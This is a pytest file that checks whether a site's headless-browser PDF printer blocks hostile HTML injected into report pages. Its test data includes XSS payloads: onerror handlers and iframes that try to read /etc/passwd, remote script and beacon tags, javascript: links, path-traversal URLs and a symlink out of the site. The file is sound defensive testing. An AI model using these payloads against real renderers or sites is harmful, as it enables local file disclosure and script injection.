"""The PDF printer runs nothing but the site: hostile markup in a built page neither runs nor reaches the PDF.

The hostile markup is written into a built page, as if every check before printing had missed it (the page checks
refuse it: tests/test_policy_html.py); the real Chromium then prints with `nianbao pdf`, and the PDF is read back
with pdftotext.
"""

from __future__ import annotations

import http.server
import os
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from conftest import REPO
from nianbao.htmlpolicy import CONTENT_SECURITY_POLICY
from nianbao.pdf.writer import PRINT_ORIGIN, PdfError, SiteRoute, print_document

MARK = "NBLEAK"
HANDLER = (
    "document.body.insertAdjacentHTML('beforeend','<p>NBLEAK-HANDLER</p>');"
    "fetch('file:///etc/passwd').then(r=>r.text()).then(t=>document.body.append('NBLEAK-FETCH '+t));"
    "var x=new XMLHttpRequest();x.open('GET','/etc/passwd',false);x.send();document.body.append('NBLEAK-XHR '+x.responseText)"
)


AUTHORED = "链接"  # the only text of the hostile markup


def _hostile(port: int) -> str:
    beacon = f"http://127.0.0.1:{port}"
    return f"""
<p><img src="data:,x" onerror="{HANDLER}" alt=""></p>
<p><img src="x.png" onerror="{HANDLER}" alt=""></p>
<script>document.body.append("NBLEAK-INLINE")</script>
<script src="../evil.js"></script>
<script src="{beacon}/evil.js"></script>
<iframe src="file:///etc/passwd"></iframe>
<iframe src="../../../../../../../../etc/passwd"></iframe>
<iframe src="../leak.txt"></iframe>
<object data="file:///etc/hostname"></object>
<embed src="../leak.txt">
<img src="{beacon}/beacon.png" alt="">
<link rel="stylesheet" href="{beacon}/style.css">
<p style="background: url({beacon}/bg.png)"><a href="javascript:document.body.append('NBLEAK-LINK')">链接</a></p>
<meta http-equiv="refresh" content="0; url={beacon}/">
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 — http.server's name
        self.seen.append(self.path)
        body = b"document.body.append('NBLEAK-REMOTE')"
        self.send_response(200)
        self.send_header("Content-Type", "application/javascript")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def _pdf_text(pdf: Path) -> str:
    return subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout


def _lines(text: str) -> set[str]:
    """Lines without spaces and digits (page numbers move when a blocked element takes room)."""
    return {re.sub(r"[\s\d]+", "", line) for line in text.splitlines()} - {""}


def _print(project: Path, site: Path) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "nianbao.cli", "pdf", "--site", str(site), "--root", str(project), "--edition",
           "2024", "--keep-html"]  # fmt: skip
    return subprocess.run(cmd, capture_output=True, text=True, env=dict(os.environ, SOURCE_DATE_EPOCH="1735689600"))


@pytest.mark.browser
def test_hostile_markup_in_a_page_cannot_run_or_leak_into_the_pdf(browser, mini_site, tmp_path):
    project = tmp_path / "project"
    shutil.copytree(mini_site.parent, project, symlinks=True)
    site = project / "site"
    clean = _print(project, site)
    assert clean.returncode == 0, clean.stderr
    clean_text = _pdf_text(site / "pdf" / "2024.pdf")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        summary = site / "2024" / "summary.html"
        html = summary.read_text(encoding="utf-8")
        marker = '<article class="md-content__inner md-typeset">'
        assert marker in html
        summary.write_text(html.replace(marker, marker + _hostile(server.server_address[1]), 1), encoding="utf-8")
        (site / "evil.js").write_text("document.body.append('NBLEAK-SITE-SCRIPT')", encoding="utf-8")
        (site / "leak.txt").symlink_to("/etc/passwd")
        result = _print(project, site)
    finally:
        server.shutdown()
        server.server_close()
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert "拦截了" in result.stderr  # the refused requests are reported

    document = (site / "pdf" / "2024.html").read_text(encoding="utf-8")
    head = document[: document.index("</head>")]
    assert head.index("Content-Security-Policy") < head.index("<link")
    assert f'content="{CONTENT_SECURITY_POLICY.replace(chr(39), "&#39;")}"' in head

    text = _pdf_text(site / "pdf" / "2024.pdf")
    assert MARK not in text
    assert "root:" not in text and "/bin/" not in text  # nothing of /etc/passwd
    assert _Recorder.seen == []  # no request left the machine
    # Every line of the PDF is a line of the clean PDF or the hostile markup's own text: nothing the page did not say.
    assert _lines(text) <= _lines(clean_text) | {AUTHORED}, _lines(text) - _lines(clean_text)
    assert "营业收入" in text  # and the report itself is there


@pytest.mark.browser
def test_the_print_document_itself_runs_no_foreign_script_and_loads_nothing_outside(browser, mini_site, tmp_path):
    """The last guard alone: hostile markup written into the print document (past the extraction, which removes it)
    meets the document's policy and the printer's routing."""
    project = tmp_path / "project"
    shutil.copytree(mini_site.parent, project, symlinks=True)
    site = project / "site"
    assert _print(project, site).returncode == 0
    document = site / "pdf" / "2024.html"
    clean_text = _pdf_text(site / "pdf" / "2024.pdf")
    (site / "evil.js").write_text("document.body.append('NBLEAK-SITE-SCRIPT')", encoding="utf-8")
    (site / "leak.txt").symlink_to("/etc/passwd")
    original = document.read_text(encoding="utf-8")
    scripts = ["assets/javascripts/plotly.min.js", "assets/javascripts/nianbao-charts.js"]
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        hostile = _hostile(port).replace(f'<meta http-equiv="refresh" content="0; url=http://127.0.0.1:{port}/">', "")
        document.write_text(original.replace("</body>", hostile + "</body>"), encoding="utf-8")
        data, pages, blocked = print_document(browser, site, document, [], scripts)
        out = tmp_path / "hostile.pdf"
        out.write_bytes(data)
        text = _pdf_text(out)
        assert MARK not in text and "root:" not in text
        assert _lines(text) <= _lines(clean_text) | {AUTHORED}, _lines(text) - _lines(clean_text)
        assert any("evil.js" in url for url in blocked) and any("leak.txt" in url for url in blocked)
        # A redirect of the whole document is refused, not printed.
        document.write_text(original.replace("</body>", _hostile(port) + "</body>"), encoding="utf-8")
        with pytest.raises(PdfError, match="跳转"):
            print_document(browser, site, document, [], scripts)
    finally:
        server.shutdown()
        server.server_close()
    assert _Recorder.seen == []


def test_the_printer_answers_only_files_of_the_site_and_only_its_own_scripts(tmp_path):
    site = tmp_path / "site"
    (site / "pdf").mkdir(parents=True)
    (site / "assets").mkdir()
    (site / "assets" / "charts.js").write_text("", encoding="utf-8")
    (site / "evil.js").write_text("", encoding="utf-8")
    (site / "pdf" / "2024.html").write_text("", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    (site / "link.txt").symlink_to(tmp_path / "secret.txt")
    route = SiteRoute(site, ["assets/charts.js"])
    assert route.url(site / "pdf" / "2024.html") == f"{PRINT_ORIGIN}/pdf/2024.html"
    ok = route.file_for(f"{PRINT_ORIGIN}/pdf/2024.html", "document")
    assert ok == (site / "pdf" / "2024.html").resolve()
    assert route.file_for(f"{PRINT_ORIGIN}/assets/charts.js", "script") is not None
    for url, kind in [
        (f"{PRINT_ORIGIN}/evil.js", "script"),  # in the site, but not one of the document's scripts
        (f"{PRINT_ORIGIN}/evil.js?x", "script"),
        (f"{PRINT_ORIGIN}/../secret.txt", "document"),
        (f"{PRINT_ORIGIN}/%2e%2e/secret.txt", "document"),
        (f"{PRINT_ORIGIN}/link.txt", "image"),  # a symbolic link out of the site
        (f"{PRINT_ORIGIN}/missing.png", "image"),
        (f"{PRINT_ORIGIN}/pdf", "document"),  # a folder
        ("file:///etc/passwd", "document"),
        ("https://example.com/x.png", "image"),
        ("https://print.nianbao.invalid.example.com/pdf/2024.html", "document"),
        ("http://print.nianbao.invalid/pdf/2024.html", "document"),
    ]:
        assert route.file_for(url, kind) is None, url


def test_main_html_carries_the_same_policy():
    main = (REPO / "overrides" / "main.html").read_text(encoding="utf-8")
    assert f'set nianbao_csp = "{CONTENT_SECURITY_POLICY}"' in main
